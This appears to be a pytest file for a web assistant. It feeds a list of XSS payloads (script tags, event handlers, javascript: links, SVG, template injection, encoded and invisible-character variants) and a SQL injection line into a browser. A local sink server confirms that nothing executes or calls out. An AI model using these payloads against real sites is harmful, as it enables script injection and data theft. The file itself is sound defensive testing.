"""Hostile strings of every common class in a real browser: nothing runs, nobody else is asked.

They are the question, titles, authors, abstracts with their quotes, a model's text, notices and
suggestions, in the conversation and in the table of the list. `benchmarks/hostile_text.py` does the
same with whole collections of such strings.
"""

from __future__ import annotations

import socketserver
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest

from assistant.settings import Settings
from benchmarks.hostile_text import CHECK, HOOKS, HostileAssistant

from .conftest import served
from .visiting import Visit

AT_ONCE = 13
STRINGS = [
    # tags
    "<script>alert(1)</script>",
    "<ScRiPt src=http://SINK/a.js></sCrIpT>",
    "</p></div></body><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=http://SINK/o></object><embed src=http://SINK/e>",
    "<form action=http://SINK/f><button>Send</button></form>",
    "<base href=http://SINK/><link rel=stylesheet href=http://SINK/l.css>",
    '<meta http-equiv=refresh content="0;url=http://SINK/m">',
    "<style>@import url(http://SINK/s.css)</style>",
    '<div style="background:url(http://SINK/b.png)">x</div>',
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video src=http://SINK/v poster=http://SINK/p autoplay onplay=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    # addresses
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    'https://SINK/" onmouseover="alert(1)',
    "javascript:alert(1)//https://SINK/",
    # Markdown
    "![pixel](http://SINK/i.png)",
    "[link](javascript:alert(1))",
    "[link](http://SINK/l) and <http://SINK/auto>",
    "[1](javascript:alert(1)) [1] \\[1]",
    "[a]: javascript:alert(1)\n\n[a]",
    "```html\n<script>alert(1)</script>\n```",
    "```mermaid\ngraph TD; A-->B\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> [x](javascript:alert(1)) |",
    "> <img src=x onerror=alert(1)>",
    "1. <svg onload=alert(1)>",
    r"$$\href{javascript:alert(1)}{x}$$",
    # SVG and MathML
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<svg><image href=http://SINK/i.svg /><use href=http://SINK/u.svg#a /></svg>",
    '<math><mi href="javascript:alert(1)">x</mi></math>',
    # templates
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "<template><img src=x onerror=alert(1)></template>",
    # what is decoded late, and characters that are not seen
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u202e<tpircs/>)1(trela<tpircs>\u202c",
    "\u2066<img\u2069 src=x onerror=alert(1)>",
    "\U000e0041\U000e0042<img src=x onerror=alert(1)>\U000e007f",
    "Z" + "\u0301" * 200 + "<svg onload=alert(1)>",
    "line one\u2028<img src=x onerror=alert(1)>",
    "\ufeff<b onclick=alert(1)>x</b>",
    "-- | rm; '; DROP TABLE papers; --",
]
LIST_CHECK = """() => [...document.querySelectorAll("#fn-list *")].filter(one =>
  one.matches("script,img,iframe,object,embed,form,video,audio,style,link,meta,base,math") ||
  [...one.attributes].some(({ name, value }) => /^on|^srcdoc$/i.test(name) ||
    (/^(href|src|action|formaction|xlink:href)$/i.test(name) && !/^(https:|#)/.test(value)))
).map(one => one.outerHTML.slice(0, 200))"""


@contextmanager
def sink() -> Iterator[tuple[str, list[bytes]]]:
    """A listener that notes what it is asked; gives its host and port, and the notes."""
    asked: list[bytes] = []

    class Note(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            asked.append(self.request.recv(300))
            self.request.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Note) as listening:
        threading.Thread(target=listening.serve_forever, daemon=True).start()
        yield f"127.0.0.1:{listening.server_address[1]}", asked
        listening.shutdown()


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[tuple[str, list[str], list[bytes]]]:
    """A server whose every word is one of the strings, the strings, and what the sink heard."""
    from assistant.web.server import create_server

    with sink() as (host, asked):
        strings = [text.replace("SINK", host) for text in STRINGS]
        app = create_server(HostileAssistant(strings, AT_ONCE), Settings(store=tmp_path, rate=9999))  # type: ignore[arg-type]
        with served(app) as address:
            httpx.get(f"http://{host}/heard")
            assert asked, "the sink hears"
            asked.clear()
            yield address, strings, asked


def test_nothing_of_a_hostile_string_runs_or_asks(
    hostile: tuple[str, list[str], list[bytes]], visit: Callable[..., Visit]
) -> None:
    address, strings, asked = hostile
    here = visit()
    here.page.add_init_script(HOOKS)
    here.page.on("dialog", lambda dialog: here.complaints.append(dialog.message))
    here.open(f"{address}/")
    cards = 0
    for number, start in enumerate(range(0, len(strings), AT_ONCE)):
        batch = strings[start : start + AT_ONCE]
        question = "\n".join(batch)[:980]
        here.ask(f"{question} {number}")
        cards += len(batch)
        found, ran, shown = here.page.evaluate(CHECK)
        assert (found, ran) == ([], [])
        assert shown == cards, "every one is answered"
    here.page.evaluate("document.querySelectorAll('#fn-chat details').forEach(d => d.open = true)")
    assert here.page.evaluate(CHECK)[:2] == [[], []]
    here.page.get_by_role("button", name="The list").click()
    here.page.locator("#fn-list tbody tr").nth(len(strings) - 1).wait_for()
    assert here.page.evaluate(LIST_CHECK) == []
    assert here.page.evaluate("window.__ran") == []
    assert asked == []
    here.assert_clean()


def test_a_hostile_link_only_asks_its_question(
    hostile: tuple[str, list[str], list[bytes]], visit: Callable[..., Visit]
) -> None:
    address, strings, asked = hostile
    here = visit()
    here.page.add_init_script(HOOKS)
    here.page.goto(str(httpx.URL(address, params={"q": f"{strings[13]} 0", "accent": strings[22]})))
    here.page.locator(".fn-done").wait_for()
    assert here.page.evaluate(CHECK)[:2] == [[], []]
    assert asked == []
    here.assert_clean()


def test_programs_get_hostile_strings_as_they_are(
    hostile: tuple[str, list[str], list[bytes]],
) -> None:
    address, strings, _ = hostile

    def answered(question: str) -> dict[str, Any]:
        body = {"messages": [{"role": "user", "content": question}]}
        reply = httpx.post(f"{address}/v1/chat/completions", json=body, timeout=20)
        assert reply.headers["content-type"] == "application/json"
        return dict(reply.json()["footnote"])

    for number, text in enumerate(strings):
        document = answered(f"{text} {number // AT_ONCE}")
        titles = [citation["title"] for citation in document["citations"]]
        assert text in titles
